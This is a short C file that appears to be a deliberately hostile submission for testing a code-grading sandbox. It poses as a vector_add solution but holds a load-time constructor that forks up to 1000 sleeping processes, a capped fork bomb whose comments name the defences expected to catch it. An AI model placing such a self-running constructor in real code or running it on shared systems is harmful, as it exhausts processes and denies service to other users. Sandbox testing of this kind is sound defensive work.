// HOSTILE (fork bomb): a constructor forks as fast as it can; each child
// sleeps. A real bomb never stops; this one stops at 1000 processes (each
// gone after 60 s), in Criterion's runner only (glibc hands constructors
// argc and argv: its workers are "boxfort-worker"), so that a grader without
// a process limit is shown up, not the machine taken down. A grader running
// as root is not bound by RLIMIT_NPROC.
// Must stop it: the object scan (starts processes; a constructor), and a
// process limit in a sandbox (its own user and PID namespace).
#include "vector_add.h"

#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void bomb(int argc, char **argv)
{
    if (argc < 1 || strstr(argv[0], "boxfort-worker")) return;
    for (int i = 0; i < 1000; ++i) {
        pid_t p = fork();
        if (p < 0) break;
        if (p == 0) {
            sleep(60);
            _exit(0);
        }
    }
}

#pragma hostile skeleton
